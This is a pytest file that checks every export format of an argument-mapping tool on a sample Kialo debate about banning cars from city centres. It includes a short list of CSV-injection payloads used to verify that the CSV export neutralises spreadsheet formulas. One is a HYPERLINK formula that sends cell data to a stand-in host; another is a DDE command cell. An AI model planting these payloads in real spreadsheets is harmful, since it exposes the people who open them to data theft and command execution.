"""Every export format, on a Kialo debate (spaCy gives its units topics only): read back with the tools that read it."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import networkx as nx
import pytest

from argmap import api
from argmap.config import Settings
from argmap.render.argdown import to_argdown
from argmap.render.export import (
    CSV_COLUMNS,
    EXPORT_FORMATS,
    export_text,
    keep_confident,
    to_csv,
    to_dot,
    to_graphml,
    to_markdown,
)
from argmap.store.models import GraphData


def _text(settings: Settings, format: str) -> str:
    out = api.export(settings=settings, format=format)
    assert isinstance(out, str)
    return out


def test_export_formats_are_the_documented_ones() -> None:
    assert EXPORT_FORMATS == ("json", "aif", "graphml", "dot", "argdown", "markdown", "csv")


def test_export_json_stays_a_dictionary(kialo_settings: Settings) -> None:
    data = api.export(settings=kialo_settings)
    assert isinstance(data, dict) and data["argmap_json"] == 1 and len(data["units"]) == 6


def test_export_format_in_any_case_as_the_cli_takes_it(kialo_settings: Settings) -> None:
    assert api.export(settings=kialo_settings, format="JSON") == api.export(settings=kialo_settings)
    assert api.export(settings=kialo_settings, format="CSV") == api.export(settings=kialo_settings, format="csv")


def test_export_format_short_names_as_the_cli_takes_them(kialo_settings: Settings) -> None:
    """``argmap export --format md`` worked and ``api.export(format="md")`` was "no export format 'md'"."""
    assert _text(kialo_settings, "md") == _text(kialo_settings, "markdown")
    assert _text(kialo_settings, "GV") == _text(kialo_settings, "dot")


def test_export_format_brat_names_export_brat(kialo_settings: Settings) -> None:
    """``--format brat`` is an export format of the CLI; from Python it is a folder of files, which the message
    names instead of listing the formats as if brat were none."""
    from argmap.errors import QueryError

    with pytest.raises(QueryError, match=r"brat standoff is three files a thread .*export_brat\(FOLDER"):
        api.export(settings=kialo_settings, format="brat")
    with pytest.raises(QueryError, match=r"no export format 'pdf'; .*\(or md, gv\), or export_brat\(FOLDER\)"):
        api.export(settings=kialo_settings, format="pdf")


def test_export_graphml_parses_with_networkx_with_typed_attributes(kialo_settings: Settings) -> None:
    graph = nx.parse_graphml(_text(kialo_settings, "graphml"))
    assert graph.is_directed() and graph.number_of_nodes() == 6 and graph.number_of_edges() == 6
    node = next(d for _n, d in graph.nodes(data=True) if d["text"].startswith("Cities should"))
    assert node["kind"] == "claim" and isinstance(node["confidence"], float) and isinstance(node["start"], int)
    kinds = sorted(d["kind"] for _a, _b, d in graph.edges(data=True))
    assert kinds == ["attack", "attack", "attack", "support", "support", "support"]
    assert all(isinstance(d["confidence"], float) and d["reason"] for _a, _b, d in graph.edges(data=True))


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # pydot's parser calls old pyparsing names
def test_export_dot_parses_with_pydot(kialo_settings: Settings) -> None:
    import pydot

    text = _text(kialo_settings, "dot")
    (graph,) = pydot.graph_from_dot_data(text)
    nodes = [n for n in graph.get_nodes() if n.get_name() not in ("node", "edge", "graph")]
    assert len(nodes) == 6 and len(graph.get_edges()) == 6
    styles = {e.get("kind").strip('"'): e.get("style") for e in graph.get_edges()}
    assert styles == {"attack": "dashed", "support": "solid"}
    # every relation's provenance, as GraphML, CSV and JSON keep it
    edges = {e.get("id").strip('"'): e for e in graph.get_edges()}
    for rel in api.graph_data(settings=kialo_settings).relations:
        edge = edges[rel.id]
        assert float(edge.get("confidence")) == rel.confidence and edge.get("model").strip('"') == rel.model
        assert edge.get("tooltip").strip('"') == rel.reason


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_export_dot_escapes_quotes_and_newlines(settings: Settings, tmp_path: Path) -> None:
    import pydot

    path = tmp_path / "q.txt"
    path.write_text('Discussion Title: "Quotes"\n\n1. He said "no" \\ and left.\n1.1. Con: Line one\nline two\n',
                    encoding="utf-8")
    assert api.ingest([str(path)], settings=settings, format="kialo").ok
    (graph,) = pydot.graph_from_dot_data(_text(settings, "dot"))
    assert len(graph.get_edges()) == 1


def test_export_argdown_structure(kialo_settings: Settings) -> None:
    text = _text(kialo_settings, "argdown")
    lines = text.splitlines()
    assert lines[:3] == ["===", 'title: "Should cities ban cars from their centres?"', "==="]
    top = next(i for i, line in enumerate(lines) if line.startswith("[Cities should ban cars"))
    end = lines.index("", top) if "" in lines[top:] else len(lines)
    tree = lines[top + 1:end]
    # children are indented by four spaces per level and marked <+ (support) or <- (attack)
    assert all(re.match(r"^( {4})+<[+-] [\[<][^\]>]+[\]>](: .+)?$", line) for line in tree), tree
    assert "    <+ [Air quality improves where cars are]: Air quality improves where cars are banned." in tree
    assert "        <- <Deliveries still need vans which pollute>: Deliveries still need vans, which pollute as " \
           "much as cars." in tree
    assert "    <- [Shops lose customers who drive]: Shops lose customers who drive." in tree
    # the linked claim appears a second time by its title only
    assert "        <- <Deliveries still need vans which pollute>" in tree
    assert sum(1 for line in tree if line.strip().startswith(("<+", "<-"))) == 6


def test_export_markdown_lists_the_main_claims(kialo_settings: Settings) -> None:
    text = _text(kialo_settings, "markdown")
    assert text.startswith("# Should cities ban cars from their centres?\n")
    assert "## Main claims" in text
    assert "- **Cities should ban cars from their centres.**" in text
    assert "  - attacked by: Shops lose customers who drive." in text
    assert "  - supported by: Air quality improves where cars are banned." in text


def test_export_markdown_names_who_attacked_and_supported(kialo_settings: Settings) -> None:
    """The report named a claim's author but not who attacked or supported it, which a moderator reads it for."""
    data = api.graph_data(settings=kialo_settings)
    data.posts = [p.model_copy(update={"author": f"user_{n}"}) for n, p in enumerate(data.posts)]
    by = {p.id: p.author for p in data.posts}
    unit = next(u for u in data.units if u.text == "Shops lose customers who drive.")
    lines = to_markdown(data).splitlines()
    name = str(by[unit.post]).replace("_", "\\_")  # Markdown-escaped, as every name in the report
    assert f"  - attacked by: Shops lose customers who drive. ({name}) *(confidence 1.00)*" in lines


def test_export_csv_has_units_and_relations(kialo_settings: Settings) -> None:
    rows = list(csv.DictReader(io.StringIO(_text(kialo_settings, "csv"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert sum(r["record"] == "unit" for r in rows) == 6 and sum(r["record"] == "relation" for r in rows) == 6
    units = {r["id"] for r in rows if r["record"] == "unit"}
    assert all(r["source"] in units and r["target"] in units for r in rows if r["record"] == "relation")


def test_export_csv_gives_each_unit_its_posts_source_id_and_time(kialo_settings: Settings) -> None:
    """GraphML gave each unit the id the source gave its post and when the post was written, the CSV neither, so a
    spreadsheet of units could not be joined to the corpus nor sorted by time; they come last in a unit's row,
    written as GraphML and the JSON export write them, empty in a relation's and for a post with no time."""
    from datetime import UTC, datetime

    data = api.graph_data(settings=kialo_settings)
    when = datetime(2024, 3, 1, 8, 0, tzinfo=UTC)
    data.posts = [p.model_copy(update={"created_at": when if n else None}) for n, p in enumerate(data.posts)]
    assert CSV_COLUMNS[-5:] == ("start", "end", "post_external_id", "created_at", "assumed")
    rows = list(csv.DictReader(io.StringIO(to_csv(data))))
    posts = {p.id: p for p in data.posts}
    units = [row for row in rows if row["record"] == "unit"]
    assert [row["post_external_id"] for row in units] == [posts[u.post].external_id for u in data.units]
    assert [row["created_at"] for row in units] == [
        "2024-03-01T08:00:00Z" if posts[u.post].created_at else "" for u in data.units]
    assert {row["created_at"] for row in units} == {"", "2024-03-01T08:00:00Z"}
    graphml = nx.parse_graphml(to_graphml(data))
    assert {row["id"]: (row["post_external_id"], row["created_at"]) for row in units} == {
        node: (attrs["post_external_id"], attrs.get("created_at", "")) for node, attrs in graphml.nodes(data=True)}
    assert all(row["post_external_id"] == row["created_at"] == "" for row in rows if row["record"] == "relation")


def test_export_csv_gives_each_unit_its_offsets_into_its_post(kialo_settings: Settings) -> None:
    """A researcher aligns units with other annotation (brat spans) by their offsets, as in the JSON export."""
    data = api.graph_data(settings=kialo_settings)
    posts = {p.id: p.text for p in data.posts}
    rows = [r for r in csv.DictReader(io.StringIO(_text(kialo_settings, "csv"))) if r["record"] == "unit"]
    assert len(rows) == len(data.units) == 6
    for row in rows:
        assert posts[row["post"]][int(row["start"]):int(row["end"])] == row["text"]
    assert all(r["start"] == r["end"] == "" for r in csv.DictReader(io.StringIO(_text(kialo_settings, "csv")))
               if r["record"] == "relation")


#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"): each must come back as text, ``'`` first.
FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1", "\r=1+1"]


def test_export_csv_neutralises_formulas_in_text_cells(kialo_settings: Settings) -> None:
    data = api.graph_data(settings=kialo_settings)
    hostile = {u.id: text for u, text in zip(data.units, FORMULA_CELLS, strict=False)}
    units = [u.model_copy(update={"text": hostile[u.id], "topics": [hostile[u.id], "cars"], "reason": "=reason"})
             if u.id in hostile else u for u in data.units]
    posts = [p.model_copy(update={"author": "@author"}) for p in data.posts]
    # a negative number in a numeric column stays a number (no relation has one, but the column must not care)
    relations = [r.model_copy(update={"confidence": -0.25 if n == 0 else r.confidence, "model": "+model"})
                 for n, r in enumerate(data.relations)]
    data = data.model_copy(update={"units": units, "posts": posts, "relations": relations})
    rows = list(csv.DictReader(io.StringIO(to_csv(data))))
    unit_rows = {r["id"]: r for r in rows if r["record"] == "unit"}
    for unit in units:
        row = unit_rows[unit.id]
        if unit.id in hostile:
            assert row["text"] == "'" + hostile[unit.id]
            assert row["topics"] == f"'{hostile[unit.id]}; cars" and row["reason"] == "'=reason"
        else:
            assert row["text"] == unit.text and not row["text"].startswith("'")  # plain text is left as it is
        assert row["author"] == "'@author" and float(row["confidence"]) == unit.confidence
    relation_rows = [r for r in rows if r["record"] == "relation"]
    assert [r["confidence"] for r in relation_rows] == [str(r.confidence) for r in relations]
    assert relation_rows[0]["confidence"] == "-0.25"
    assert all(r["model"] == "'+model" for r in relation_rows)
    sources = {r["id"]: r["text"] for r in rows if r["record"] == "unit"}
    assert all(r["text"] == sources[r["source"]] for r in relation_rows)  # the source's text, neutralised alike


def test_export_aif_has_the_aifdb_shape(kialo_settings: Settings) -> None:
    aif = json.loads(_text(kialo_settings, "aif"))
    assert {"nodes", "edges", "locutions", "participants"} <= set(aif)
    types: dict[str, int] = {}
    for node in aif["nodes"]:
        assert set(node) == {"nodeID", "text", "type", "timestamp"}
        types[node["type"]] = types.get(node["type"], 0) + 1
    assert types["I"] == 6 and types["L"] == 6 and types["RA"] == 3 and types["CA"] == 3 and types["TA"] == 5
    ids = {n["nodeID"]: n for n in aif["nodes"]}
    for edge in aif["edges"]:
        assert set(edge) == {"edgeID", "fromID", "toID"} and edge["fromID"] in ids and edge["toID"] in ids
    # every RA/CA node joins I-nodes: I -> S -> I
    for sid, node in ids.items():
        if node["type"] in ("RA", "CA"):
            ins = [e["fromID"] for e in aif["edges"] if e["toID"] == sid and ids[e["fromID"]]["type"] == "I"]
            outs = [e["toID"] for e in aif["edges"] if e["fromID"] == sid and ids[e["toID"]]["type"] == "I"]
            assert len(ins) == 1 and len(outs) == 1
    # every S-node is anchored in an illocution, in a transition or a post: "1.2.1. Con: -> See 1.1.1." joins
    # two claims no transition joins, and its CA node was left unanchored
    for sid, node in ids.items():
        if node["type"] in ("RA", "CA", "MA"):
            anchors = [e["fromID"] for e in aif["edges"] if e["toID"] == sid and ids[e["fromID"]]["type"] == "YA"]
            assert len(anchors) == 1, node
            [said] = [e["fromID"] for e in aif["edges"] if e["toID"] == anchors[0]]
            assert ids[said]["type"] in ("TA", "L")
    assert {loc["nodeID"] for loc in aif["locutions"]} == {n for n, v in ids.items() if v["type"] == "L"}


@pytest.mark.parametrize("format", ["aif", "graphml", "dot", "argdown", "markdown", "csv"])
def test_export_text_formats_are_deterministic(kialo_settings: Settings, format: str) -> None:
    first, second = _text(kialo_settings, format), _text(kialo_settings, format)
    assert first == second and first.endswith("\n")


def test_export_refuses_a_confidence_threshold_outside_0_to_1(kialo_settings: Settings) -> None:
    from argmap.errors import QueryError

    for threshold in (-0.1, 1.5):
        with pytest.raises(QueryError, match="--min-confidence must be between 0 and 1"):
            api.export(settings=kialo_settings, min_confidence=threshold)
        with pytest.raises(QueryError, match="--min-confidence must be between 0 and 1"):  # as its docstring says
            api.export_brat(kialo_settings.db + ".brat", settings=kialo_settings, min_confidence=threshold)
    # the bounds themselves are thresholds: imported relations have confidence 1, so 1 keeps them all
    everything = api.export(settings=kialo_settings)
    assert isinstance(everything, dict)
    assert api.export(settings=kialo_settings, min_confidence=1.0) == everything


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_export_keeps_two_relations_between_the_same_units(kialo_settings: Settings) -> None:
    """The map draws one edge per pair of units; GraphML, DOT and the report keep every relation."""
    import pydot

    data = api.graph_data(settings=kialo_settings)
    first = data.relations[0]
    data.relations.append(first.model_copy(update={"id": first.id + "-evidence", "kind": "evidence"}))
    graphml = nx.parse_graphml(to_graphml(data), force_multigraph=True)
    assert graphml.number_of_edges() == len(data.relations) == 7
    assert sorted(k for _a, _b, k in graphml.edges(data="kind")).count("evidence") == 1
    (dot,) = pydot.graph_from_dot_data(to_dot(data))
    assert len(dot.get_edges()) == 7
    assert "7 relations (3 attack, 1 evidence, 3 support)" in to_markdown(data)


def test_export_min_confidence_counts_the_relations_it_exports(kialo_settings: Settings) -> None:
    """A thread's ``relations`` agrees with the relations listed once a threshold leaves some out."""
    import sqlite3

    with sqlite3.connect(kialo_settings.db) as db:  # imported relations are all sure: make two of them less so
        db.execute("UPDATE relation SET confidence = 0.4 WHERE id IN (SELECT id FROM relation ORDER BY id LIMIT 2)")
    whole = api.export(settings=kialo_settings)
    sure = api.export(settings=kialo_settings, min_confidence=0.5)
    assert isinstance(whole, dict) and isinstance(sure, dict)
    assert [t["relations"] for t in whole["threads"]] == [len(whole["relations"])] == [6]
    assert [t["relations"] for t in sure["threads"]] == [len(sure["relations"])] == [4]
    assert [t["units"] for t in sure["threads"]] == [len(sure["units"])] == [6]  # every unit stays


def test_keep_confident_leaves_its_data_as_it_is(kialo_settings: Settings) -> None:
    data = api.graph_data(settings=kialo_settings)
    data.relations[0] = data.relations[0].model_copy(update={"confidence": 0.3})
    kept = keep_confident(data, 0.5)
    assert len(kept.relations) == 5 and kept.threads[0].relations == 5
    assert len(data.relations) == 6 and data.threads[0].relations == 6


#: The Argdown command line (@argdown/cli): named by ARGMAP_TEST_ARGDOWN (read before the autouse fixture clears
#: ARGMAP_* variables), else where ``.ci/setup`` installs it, else on the PATH.
_CI_ARGDOWN = Path(__file__).resolve().parents[2] / ".ci" / "node" / "node_modules" / ".bin" / "argdown"
ARGDOWN = (os.environ.get("ARGMAP_TEST_ARGDOWN") or (str(_CI_ARGDOWN) if _CI_ARGDOWN.exists() else None)
           or shutil.which("argdown"))
HOSTILE_TEXTS = [
    "[1] because the study says so",
    r"Install it under C:\path\ and run it",
    "See <b>this</b> and https://example.org/study or /* not a comment */ #tag @someone",
    "Sets like {a, b} and *stars* and _under_ and `code` // after slashes",
    # Argdown names special characters between dots or colons: .A. is ∀, :+1: a thumb, and a run like
    # "$2.75)[0]." one unknown name whose escapes stay in the text.
    "Costs in the U.S.A. and M.E. were $2.75)[0]. at 10:30:00 :+1: .~. (B.O.B. said)",
]


def _argdown_graph() -> nx.DiGraph:
    graph = nx.DiGraph(threads={"t": "Hostile"})
    graph.add_node("c", kind="claim", text=HOSTILE_TEXTS[0])
    graph.add_node("p", kind="premise", text=HOSTILE_TEXTS[1])
    graph.add_node("a", kind="claim", text=HOSTILE_TEXTS[2])
    graph.add_node("e", kind="evidence", text=HOSTILE_TEXTS[3])
    graph.add_node("o", kind="other", text="Thanks [all], great thread!")
    graph.add_node("s", kind="claim", text=HOSTILE_TEXTS[4])
    graph.add_edge("p", "c", kind="support")
    graph.add_edge("a", "c", kind="attack")
    graph.add_edge("e", "a", kind="evidence")
    graph.add_edge("o", "c", kind="support")
    return graph


def test_export_argdown_escapes_special_characters_instead_of_dropping_them() -> None:
    text = to_argdown(_argdown_graph())
    lines = [line for line in text.splitlines() if ": " in line and not line.startswith(("title", "//"))]
    assert len(lines) == 5
    for line, expected in zip(lines, HOSTILE_TEXTS, strict=True):
        body = line.split(": ", 1)[1]
        assert re.sub(r"\\(.)", r"\1", body) == expected  # Argdown reads ``\x`` as ``x``: the text comes back whole
    assert r"\[1\] because" in text and r"C:\\path\\ and" in text and r"https:\//example.org" in text
    assert r"U\.S\.A. and M\.E. were $2\.75)\[0\]. at 10\:30:00 \:+1: \.~." in text  # no special-character names


def test_export_argdown_leaves_other_units_out_of_the_argument() -> None:
    text = to_argdown(_argdown_graph())
    assert "Thanks" not in "".join(line for line in text.splitlines() if not line.startswith("//"))
    assert text.splitlines()[-2:] == [
        "// 1 unit of kind other (greetings, thanks, edit notes) left out of the argument:",
        "// Thanks [all], great thread!"]
    assert sum(1 for line in text.splitlines() if line.strip().startswith(("<+", "<-"))) == 3


def _argdown_json(text: str, tmp_path: Path) -> dict[str, Any]:
    """``text`` as @argdown/cli reads it (its JSON export); the test is skipped where the tool is missing."""
    if not ARGDOWN:
        pytest.skip("@argdown/cli is not installed: bash .ci/setup installs it (with npm), or set ARGMAP_TEST_ARGDOWN")
    source = tmp_path / "map.argdown"
    source.write_text(text, encoding="utf-8")
    subprocess.run([ARGDOWN, "json", str(source), str(tmp_path)], check=True, capture_output=True, timeout=120)
    parsed: dict[str, Any] = json.loads((tmp_path / "map.json").read_text(encoding="utf-8"))
    return parsed


def test_export_argdown_parses_with_the_argdown_tools(kialo_settings: Settings, tmp_path: Path) -> None:
    """@argdown/cli reads the export back: every unit's text, the relations (ARGMAP_TEST_ARGDOWN names the tool)."""
    parsed = _argdown_json(to_argdown(_argdown_graph()), tmp_path)
    texts = [member["text"] for entry in (*parsed["statements"].values(), *parsed["arguments"].values())
             for member in entry["members"] if member.get("text")]
    assert sorted(texts) == sorted(HOSTILE_TEXTS)
    kinds = sorted(r["relationType"] for r in parsed["relations"])
    assert kinds == ["attack", "support", "support"]


def test_export_argdown_titles_never_open_with_a_dash(tmp_path: Path) -> None:
    """Argdown takes "[-x]" and "<-x>" for no reference: units opening with a dash (a command line option, a
    list written with dashes) made untitled statements and relations of their own in the provenance lines."""
    graph = nx.DiGraph(threads={"t": "Dashes"})
    graph.add_node("c", kind="claim", text="Deleting the root folder needs a flag")
    graph.add_node("a", kind="claim", text="--no-preserve-root is that flag")
    graph.add_node("p", kind="premise", text="-u stops the script at an unset variable")
    graph.add_node("d", kind="claim", text="- - -")
    graph.add_edge("a", "c", id="r1", kind="attack", confidence=0.5, model="m", reason="r")
    graph.add_edge("p", "a", id="r2", kind="support", confidence=0.5, model="m", reason="r")
    graph.add_edge("d", "c", id="r3", kind="support", confidence=0.5, model="m", reason="r")
    text = to_argdown(graph)
    titles = re.findall(r"^\s*(?:<[+-] )?[\[<]([^\]>]*)[\]>]", text, flags=re.MULTILINE)
    assert titles and not any(title.startswith("-") for title in titles), titles
    parsed = _argdown_json(text, tmp_path)
    assert sorted((*parsed["statements"], *parsed["arguments"])) == sorted(
        ["Deleting the root folder needs a", "no-preserve-root is that flag", "u stops the script at an", "Unit"])
    assert len(parsed["relations"]) == 3


def _parallel_data(settings: Settings) -> GraphData:
    """The Kialo debate with an evidence link and an attack beside its first support, from a rule whose reason
    is full of Argdown's and YAML's syntax."""
    data = api.graph_data(settings=settings)
    first = next(r for r in data.relations if r.kind == "support")
    reason = 'quotes "Madrid" {a: 1} } x // not a comment <!-- --> #tag [A]: b \\ \u2028 é'
    data.relations += [first.model_copy(update={"id": first.id + "-evidence", "kind": "evidence", "confidence": 0.82,
                                                "model": "argmap.relations.v13/quote", "reason": reason}),
                       first.model_copy(update={"id": first.id + "-attack", "kind": "attack", "confidence": 0.4})]
    return data


def test_export_argdown_lists_every_relation_with_its_provenance(kialo_settings: Settings) -> None:
    """Two relations between the same units both get a line; each line carries its relation's id and provenance."""
    data = _parallel_data(kialo_settings)
    text = export_text(data, "argdown")
    lines = [line for line in text.splitlines() if line.startswith("    <") and "{argmap: {relations: " in line]
    assert len(lines) == len(data.relations) == 8
    for relation in data.relations:
        (line,) = [line for line in lines if f'{{"{relation.id}": {{' in line]
        assert line.startswith("    <- " if relation.kind == "attack" else "    <+ ")
        assert f'model: "{relation.model}"' in line and f"confidence: {relation.confidence}" in line
    # the support and the evidence link are both <+: the output says that Argdown reads them as one
    notes = [line for line in text.splitlines() if "reads the next line" in line]
    assert notes == ["    // Argdown has one support: it reads the next line (evidence) and the one above as one "
                     "relation; the data keeps both"]
    assert "{argmap:" not in to_argdown(_argdown_graph())  # a hand-made graph's edges have no ids: nothing to list


def test_export_argdown_provenance_parses_with_the_argdown_tools(kialo_settings: Settings, tmp_path: Path) -> None:
    """@argdown/cli reads each relation's provenance back from the data, and the support and the attack between
    the same units as two relations; the texts are the units' (Argdown adds a space after an element's data)."""
    data = _parallel_data(kialo_settings)
    parsed = _argdown_json(export_text(data, "argdown"), tmp_path)
    elements = {**parsed["statements"], **parsed["arguments"]}
    provenance: dict[str, Any] = {}
    for element in elements.values():
        provenance.update(element.get("data", {}).get("argmap", {}).get("relations", {}))
    assert set(provenance) == {r.id for r in data.relations}
    for relation in data.relations:
        assert provenance[relation.id] == {"source": relation.source, "target": relation.target, "kind": relation.kind,
                                           "confidence": relation.confidence, "model": relation.model,
                                           "reason": relation.reason}
    texts = sorted(m["text"].strip() for e in elements.values() for m in e["members"] if (m.get("text") or "").strip())
    assert texts == sorted(u.text for u in data.units)
    kinds = sorted(r["relationType"] for r in parsed["relations"])
    assert kinds == ["attack", "attack", "attack", "attack", "support", "support", "support"]  # evidence joins support


def test_export_argdown_equals_runs_do_not_open_front_matter(tmp_path: Path) -> None:
    """``===`` opens Argdown's front matter wherever it stands: a unit saying "3 === 3" made the file unreadable."""
    texts = ["=== Summary ===", "In JavaScript 3 === 3 holds, and a = b is fine", "x == y, they said"]
    graph = nx.DiGraph(threads={"t": "Equals"})
    for n, text in enumerate(texts):
        graph.add_node(f"u{n}", kind="claim", text=text)
    graph.add_edge("u1", "u0", kind="support")
    graph.add_edge("u2", "u0", kind="attack")
    exported = to_argdown(graph)
    assert "===" not in exported.split("===\n", 2)[-1] and r"3 \=\=\= 3" in exported and "a = b" in exported
    parsed = _argdown_json(exported, tmp_path)
    back = [member["text"] for entry in (*parsed["statements"].values(), *parsed["arguments"].values())
            for member in entry["members"] if member.get("text")]
    assert sorted(back) == sorted(texts)


@pytest.mark.timeout(20)
@pytest.mark.parametrize("piece", [":", ".", "a.", "a:"])
def test_export_argdown_escapes_a_megabyte_word_of_dots_and_colons_in_linear_time(piece: str) -> None:
    # A greedy look-ahead ran from every dot or colon to the end of the word: 100,000 colons took 13 s.
    words = piece * (1_000_000 // len(piece)) + " end"
    graph = nx.DiGraph(threads={"t": "Long"})
    graph.add_node("c", kind="claim", text=words)
    line = next(line for line in to_argdown(graph).splitlines() if line.endswith(" end"))
    assert re.sub(r"\\(.)", r"\1", line.split(": ", 1)[1]) == words


def test_export_graphml_stays_valid_xml_with_control_characters(kialo_settings: Settings) -> None:
    # XML cannot hold C0 controls (other than tab and line ends) even escaped: a post holding "\u0001" or a
    # terminal colour code made the whole GraphML file unreadable.
    data = api.graph_data(settings=kialo_settings)
    hostile = "bell\x07 esc\x1b[31m nul-ish\x01 vt\x0b ff\x0c \ufffe end"
    data.units[0] = data.units[0].model_copy(update={"text": hostile})
    data.relations[0] = data.relations[0].model_copy(update={"reason": hostile})
    graph = nx.parse_graphml(to_graphml(data), force_multigraph=True)
    cleaned = "bell\ufffd esc\ufffd[31m nul-ish\ufffd vt\ufffd ff\ufffd \ufffd end"
    assert graph.nodes[data.units[0].id]["text"] == cleaned
    assert cleaned in {reason for _a, _b, reason in graph.edges(data="reason")}


def test_export_top_is_for_the_markdown_report_only(kialo_settings: Settings) -> None:
    from argmap.errors import QueryError

    with pytest.raises(QueryError, match="--top cuts the Markdown report"):
        api.export(settings=kialo_settings, format="csv", top=1)
    with pytest.raises(QueryError, match="--top must be 1 or more"):
        api.export(settings=kialo_settings, format="markdown", top=0)
    whole = api.export(settings=kialo_settings, format="markdown")
    assert api.export(settings=kialo_settings, format="markdown", top=1000) == whole
    cut = api.export(settings=kialo_settings, format="markdown", top=1)
    assert isinstance(cut, str) and isinstance(whole, str) and len(cut) < len(whole)
    assert re.search(r"\*\d+ more topics? not shown\.\*", cut)  # the imported map's units have topics


def test_export_markdown_says_who_argues_with_whom(kialo_settings: Settings) -> None:
    """A moderator's report of a heated thread did not say which two people traded attacks."""
    data = api.graph_data(settings=kialo_settings)
    assert "## Who argues with whom" not in to_markdown(data)  # no authors, no pairs
    writer = {"Cities should ban cars from their centres.": "ann", "Shops lose customers who drive.": "bob",
              "Deliveries still need vans, which pollute as much as cars.": "ann"}
    by_post = {u.post: writer.get(u.text, "cy") for u in data.units}
    data.posts = [p.model_copy(update={"author": by_post[p.id]}) for p in data.posts]
    units = {u.text: u.id for u in data.units}
    cities = units["Cities should ban cars from their centres."]
    air = units["Air quality improves where cars are banned."]
    lines = to_markdown(data).splitlines()
    at = lines.index("## Who argues with whom")
    assert lines[at + 2:at + 5] == [  # ann and bob each attacked once: the earlier unit of the two
        f"- **ann** attacked **bob** 1 time, 1 back (most attacked: `{cities}`)",
        f"- **ann** attacked **cy** 1 time, none back (most attacked: `{air}`)", ""]
    assert at < lines.index("## Main claims")


def test_export_and_maps_refuse_a_meaningless_value_with_query_error(kialo_settings: Settings, tmp_path: Path) -> None:
    """A value that cannot mean anything is a QueryError, as a negative --depth or a --min-score outside 0..1 is: an
    unknown export format or layout, a negative --hops and a --min-confidence outside 0..1 were NotFound, the error
    for what the database does not hold, so a notebook that caught NotFound for a missing thread caught a typo too."""
    from argmap.errors import NotFound, QueryError

    claim = api.graph_data(settings=kialo_settings).units[0].id
    calls = {
        "format": lambda: api.export(settings=kialo_settings, format="pdf"),
        "min_confidence": lambda: api.map_graph(settings=kialo_settings, min_confidence=2),
        "hops": lambda: api.map_graph(settings=kialo_settings, claim=claim, hops=-1),
        "layout": lambda: api.render_map(settings=kialo_settings, layout="circle", output=tmp_path / "map.html"),
    }
    for name, call in calls.items():
        with pytest.raises(QueryError) as caught:
            call()
        assert not isinstance(caught.value, NotFound), name
    with pytest.raises(NotFound, match="argmap threads"):  # what is not stored stays NotFound
        api.export(settings=kialo_settings, thread="no such thread")


def _dated_map() -> dict[str, object]:
    """Two dated turns, one written with a zone other than UTC, one with a fraction of a second."""
    nodes = [{"nodeID": "L1", "text": "ann: Bus lanes speed up every bus.", "type": "L"},
             {"nodeID": "Y1", "text": "Asserting", "type": "YA"},
             {"nodeID": "I1", "text": "Bus lanes speed up every bus.", "type": "I"},
             {"nodeID": "L2", "text": "bo: Buses still queue at the lights.", "type": "L"},
             {"nodeID": "Y2", "text": "Asserting", "type": "YA"},
             {"nodeID": "I2", "text": "Buses still queue at the lights.", "type": "I"},
             {"nodeID": "S1", "text": "Default Conflict", "type": "CA"}]
    pairs = [("L1", "Y1"), ("Y1", "I1"), ("L2", "Y2"), ("Y2", "I2"), ("I2", "S1"), ("S1", "I1")]
    return {"nodes": nodes, "edges": [{"edgeID": n, "fromID": a, "toID": b} for n, (a, b) in enumerate(pairs, 1)],
            "locutions": [{"nodeID": "L1", "personID": 1, "start": "2024-03-01T09:00:00+01:00"},
                          {"nodeID": "L2", "personID": 2, "start": "2024-03-01 08:30:00.250000"}],
            "participants": [{"participantID": 1, "firstname": "ann", "surname": ""},
                             {"participantID": 2, "firstname": "bo", "surname": ""}]}


def test_export_formats_write_times_as_the_json_export_does(settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "dated.json"
    path.write_text(json.dumps(_dated_map()), encoding="utf-8")
    assert api.ingest([str(path)], settings=settings, format="aif").ok
    data = api.export(settings=settings)
    assert isinstance(data, dict)
    written = {p["id"]: p["created_at"] for p in data["posts"]}
    assert sorted(written.values()) == ["2024-03-01T08:00:00Z", "2024-03-01T08:30:00.250000Z"]
    post_of = {u["id"]: u["post"] for u in data["units"]}
    graph = nx.parse_graphml(_text(settings, "graphml"))
    assert {n: d["created_at"] for n, d in graph.nodes(data=True)} == {u: written[p] for u, p in post_of.items()}
    aif = json.loads(_text(settings, "aif"))
    assert aif["argmap"]["created"] == written
    # and the AIF file read back keeps the times
    again = tmp_path / "again.json"
    again.write_text(_text(settings, "aif"), encoding="utf-8")
    other = Settings(db=str(tmp_path / "other.db"))
    assert api.ingest([str(again)], settings=other).ok
    back = api.export(settings=other)
    assert isinstance(back, dict) and {p["id"]: p["created_at"] for p in back["posts"]} == written


def test_export_graphml_reads_back_keyed_by_relation_id_as_the_readme_says(kialo_settings: Settings) -> None:
    """The README said ``networkx.read_graphml`` gives a MultiDiGraph keyed by relation id, and a script that took
    it at its word (``g.edges(keys=True)``) failed on every map without parallel relations, which networkx reads
    as a DiGraph. It gives the call that does, and what the plain call gives."""
    from argmap.render.export import to_graphml

    readme = " ".join((Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8").split())
    assert "`networkx.read_graphml(path, force_multigraph=True)` gives a MultiDiGraph keyed by relation id" in readme
    data = api.graph_data(settings=kialo_settings)
    ids = {relation.id for relation in data.relations}
    keyed = nx.read_graphml(io.BytesIO(to_graphml(data).encode("utf-8")), force_multigraph=True)
    assert isinstance(keyed, nx.MultiDiGraph) and {key for _a, _b, key in keyed.edges(keys=True)} == ids
    plain = nx.read_graphml(io.BytesIO(to_graphml(data).encode("utf-8")))  # no parallel relations in this map
    assert type(plain) is nx.DiGraph and {edge["id"] for _a, _b, edge in plain.edges(data=True)} == ids
    assert "a DiGraph with each relation's id as its edge's `id`" in readme
    assert "topics (one string, joined with `; `)" in readme
    assert {node: attrs["topics"] for node, attrs in keyed.nodes(data=True)} == {
        unit.id: "; ".join(unit.topics) for unit in data.units}


